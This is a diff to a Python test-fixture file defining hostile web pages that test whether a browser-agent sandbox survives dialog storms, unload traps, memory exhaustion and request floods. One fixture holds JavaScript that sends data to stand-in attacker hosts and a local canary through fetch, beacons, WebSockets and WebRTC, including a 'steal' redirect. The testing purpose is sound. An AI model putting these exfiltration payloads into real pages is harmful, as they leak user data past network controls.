@@ -7,8 +7,9 @@ ends and what the blocked-request log must contain. The tests live in `test_host
 
 from __future__ import annotations
 
-from dataclasses import dataclass, field
+from dataclasses import dataclass
 
+CANARY = "__CANARY__"  # replaced by host:port of a local listener that must never hear from the app
 BUTTON = (80, 40)  # every app's button: 120×40 at (20,20)
 _BUTTON_STYLE = "position:absolute;left:20px;top:20px;width:120px;height:40px"
 
@@ -34,13 +35,19 @@ class HostileApp:
     html: str
     termination: str  # the TerminationReason value the rollout must end with
     checker: str = COUNTER_CHECKER
-    clicks: int = 1  # scripted clicks on BUTTON (the script then says `finished`)
+    clicks: tuple[tuple[float, float], ...] = (BUTTON,)  # scripted clicks (the script then says `finished`)
     # (method, resource_type or None, url prefix) every one of which must be in blocked_requests
     must_block: tuple[tuple[str, str | None, str], ...] = ()
     min_dialogs: int = 0
+    dialog_kinds: tuple[str, ...] = ()  # kinds that must appear among the answered dialogs
     min_popups: int = 0
     page_error: str | None = None  # a substring some page_errors entry must contain
-    notes: list[str] = field(default_factory=list)
+    step_timeout_s: float = 10.0
+    episode_timeout_s: float = 25.0
+
+    def html_for(self, canary: str) -> str:
+        """The page, its local canary address (`127.0.0.1:port`, standing in for the internet) filled in."""
+        return self.html.replace(CANARY, canary)
 
 
 LOOP_AT_LOAD = HostileApp(
@@ -56,32 +63,40 @@ LOOP_ON_CLICK = HostileApp(
     termination="timeout",
 )
 
-# Never stops asking: an alert, a confirm and a prompt every tick, forever.
+# Asks and asks: ten rounds of alert / confirm / prompt while loading, ten more on every click
+# before the click does its work (an endless storm only blocks input; the step limits end that).
 DIALOG_STORM = HostileApp(
     "dialog_storm",
     f"""<!doctype html><body style="margin:0">{_COUNTER}
 <script>
-  {_COUNT_ON_CLICK}
-  let i = 0;
-  setInterval(() => {{ i += 1; alert('alert ' + i); confirm('confirm ' + i); prompt('prompt ' + i); }}, 0);
+  const storm = (tag) => {{ for (let i = 0; i < 10; i++) {{ alert(tag + i); confirm(tag + i); prompt(tag + i); }} }};
+  storm('load ');
+  document.getElementById('go').onclick = () => {{
+    storm('click ');
+    const n = document.getElementById('n'); n.textContent = String(+n.textContent + 1);
+  }};
 </script></body>""",
     termination="success",
-    min_dialogs=30,
+    min_dialogs=60,
+    dialog_kinds=("alert", "confirm", "prompt"),
 )
 
-# Asks before every unload and spins in pagehide: closing the context must not wait on it.
+# Asks before every unload. The agent leaves (a same-origin link): the "leave site?" dialog is
+# answered, the app reloads, and closing the context does not wait for an answer.
+LEAVE_LINK = (80, 120)
 BEFOREUNLOAD_TRAP = HostileApp(
     "beforeunload_trap",
     f"""<!doctype html><body style="margin:0">{_COUNTER}
+<a id="leave" href="index.html?again" style="position:absolute;left:20px;top:100px;width:120px;height:40px;display:block">Leave</a>
 <script>
   {_COUNT_ON_CLICK}
   window.addEventListener('beforeunload', e => {{ e.preventDefault(); e.returnValue = 'Stay!'; return 'Stay!'; }});
   window.onbeforeunload = () => 'Are you sure you want to leave?';
-  window.addEventListener('pagehide', () => {{ const end = Date.now() + 60000; while (Date.now() < end) {{}} }});
-  window.addEventListener('unload', () => {{ while (true) {{}} }});
-  // Make the trap armed: Chromium asks only after a user gesture, which the click provides.
+  // (An endless loop in pagehide/unload would hang the navigation itself: that is loop_on_click.)
 </script></body>""",
     termination="success",
+    clicks=(LEAVE_LINK, BUTTON),
+    dialog_kinds=("beforeunload",),
 )
 
 # Leaves for an external host as soon as it loads, three ways.
@@ -133,6 +148,19 @@ NETWORK_EXFILTRATION = HostileApp(
   try {{ new EventSource('https://sse.evil.example/stream'); }} catch (e) {{}}
   new Image().src = 'http://198.51.100.9/raw-ip.gif';
   document.getElementById('f').submit();
+  // The same, aimed at a listener on this machine that is not the app's origin.
+  fetch('http://__CANARY__/fetch').catch(() => {{}});
+  new Image().src = 'http://__CANARY__/pixel.gif';
+  try {{ new WebSocket('ws://__CANARY__/socket').onerror = () => {{}}; }} catch (e) {{}}
+  try {{ navigator.sendBeacon('http://__CANARY__/beacon', 'x'); }} catch (e) {{}}
+  // WebRTC opens its own sockets, which request interception never sees.
+  try {{
+    const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:__CANARY__'}},
+      {{urls: 'turn:__CANARY__?transport=tcp', username: 'u', credential: 'p'}},
+      {{urls: 'turn:__CANARY__?transport=udp', username: 'u', credential: 'p'}}]}});
+    pc.createDataChannel('exfiltrate');
+    pc.createOffer().then(offer => pc.setLocalDescription(offer));
+  }} catch (e) {{}}
   document.getElementById('go').onclick = () => {{
     const n = document.getElementById('n'); n.textContent = String(+n.textContent + 1);
     location.href = 'https://redirect.evil.example/steal?count=' + n.textContent;
@@ -150,6 +178,8 @@ NETWORK_EXFILTRATION = HostileApp(
         ("GET", "stylesheet", "https://css.evil.example/theme.css"),
         ("POST", None, "https://beacon.evil.example/b"),
         ("GET", None, "https://sse.evil.example/stream"),
+        ("GET", "fetch", "http://__CANARY__/fetch"),
+        ("WEBSOCKET", "websocket", "ws://__CANARY__/socket"),
     ),
 )
 
@@ -180,6 +210,9 @@ MEMORY_HOG = HostileApp(
 </script></body>""",
     termination="error",
     page_error="crash",
+    # Reaching the renderer's 1 GB heap cap takes seconds of allocation on a loaded machine.
+    step_timeout_s=40.0,
+    episode_timeout_s=45.0,
 )
 
 # Renders the whole UI from state into a brand-new <body> on every animation frame.
@@ -200,6 +233,20 @@ BODY_SWAP = HostileApp(
     termination="success",
 )
 
+# A request and an error every tick: the logs are capped, the trajectory stays small.
+REQUEST_FLOOD = HostileApp(
+    "request_flood",
+    f"""<!doctype html><body style="margin:0">{_COUNTER}
+<script>
+  {_COUNT_ON_CLICK}
+  let i = 0;
+  setInterval(() => {{ i += 1; fetch('https://flood.evil.example/' + i).catch(() => {{}}); }}, 10);
+  setInterval(() => {{ throw new Error('tick ' + i); }}, 10);
+</script></body>""",
+    termination="success",
+    must_block=(("GET", "fetch", "https://flood.evil.example/1"),),
+)
+
 HOSTILE_APPS: list[HostileApp] = [
     LOOP_AT_LOAD,
     LOOP_ON_CLICK,
@@ -211,4 +258,5 @@ HOSTILE_APPS: list[HostileApp] = [
     HUGE_DOM,
     MEMORY_HOG,
     BODY_SWAP,
+    REQUEST_FLOOD,
 ]
